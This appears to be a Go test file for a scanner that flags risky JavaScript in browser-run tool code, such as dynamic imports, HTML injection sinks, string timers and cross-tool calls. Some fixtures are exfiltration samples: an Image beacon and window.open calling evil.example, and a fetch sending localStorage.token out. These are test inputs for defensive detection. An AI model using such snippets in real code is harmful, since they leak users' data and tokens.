package inspection

import (
	"slices"
	"strings"
	"testing"
)

func TestFindBrowserFeatures(t *testing.T) {
	for code, want := range map[string]string{
		`const m = await import('./more.js');`:                          "import()",
		`import("data:text/javascript,x")`:                              "import()",
		`e=()=>import(t+"x");`:                                          "import()",
		`import(/* webpackIgnore: true */ u)`:                           "import()",
		`const r = await context.call('other__read', {});`:              "context.call",
		`context?.call("x__y",a)`:                                       "context.call",
		`async handle(e,t){return await t.call("other__read",{a:e.a})}`: "context.call",
		`async(e,t)=>t?.call?.("other__read",{})`:                       "context.call",
		"handle:async(e,n)=>n.call(`x__${e.tool}`,e)":                   "context.call",
		`async handle(e,{call:r,signal:n}){return r(e.tool,e)}`:         "context.call",
		`n["call"]("x__y")`:                                             "context.call",
		`e.innerHTML=t`:                                                 "innerHTML",
		`e.outerHTML+=t`:                                                "outerHTML",
		`e.insertAdjacentHTML("beforeend",t)`:                           "insertAdjacentHTML",
		`document.write(t)`:                                             "document.write",
		`document.writeln(t)`:                                           "document.write",
		`(new Image).src="https://evil.example/?"+t`:                    "Image",
		`var i=new Image();`:                                            "Image",
		`new window.Image(1,1)`:                                         "Image",
		`window.open(u)`:                                                "window.open",
		`globalThis.open(u)`:                                            "window.open",
		`open("https://evil.example")`:                                  "window.open",
		`setTimeout("alert(1)",5)`:                                      "timer with a string",
		"setInterval(`x${1}`,5)":                                        "timer with a string",
		`window.setTimeout('x', 0)`:                                     "timer with a string",
		`let r=await fetch("/send",{body:localStorage.token})`:          "fetch localStorage",
	} {
		var names []string
		for _, m := range findBrowserFeatures(code) {
			names = append(names, m.Name)
			if !strings.HasSuffix(m.Meaning, ".") || len(m.Meaning) < 20 {
				t.Errorf("meaning of the feature %s = %q; want a sentence of at least 20 characters", m.Name, m.Meaning)
			}
		}
		if got := strings.Join(names, " "); got != want {
			t.Errorf("browser features in the code %s = %q, want %q", code, got, want)
		}
	}
}

func TestNoBrowserFeatures(t *testing.T) {
	for _, code := range []string{
		`import x from "y";`, `e.import(x)`, `reimport(x)`, `f.call(this,a,b)`, `Object.prototype.hasOwnProperty.call(e,"a")`,
		`setTimeout(()=>r("done"),5)`, `setTimeout(e,5)`, `dialog.open(x)`, `new ImageData(1,1)`, `prefetch(x)`, `evaluate()`, `e.reopen("x")`,
		`const isImage = true`, `myfetch$()`,
	} {
		if got := findBrowserFeatures(code); len(got) != 0 {
			t.Errorf("browser features in the code %s = %v; want none", code, got)
		}
	}
}

func TestBrowserFeaturesAreSorted(t *testing.T) {
	if !slices.IsSortedFunc(featurePatterns, func(a, b featurePattern) int { return strings.Compare(a.Name, b.Name) }) {
		t.Error("featurePatterns are not sorted by name; want them sorted")
	}
}
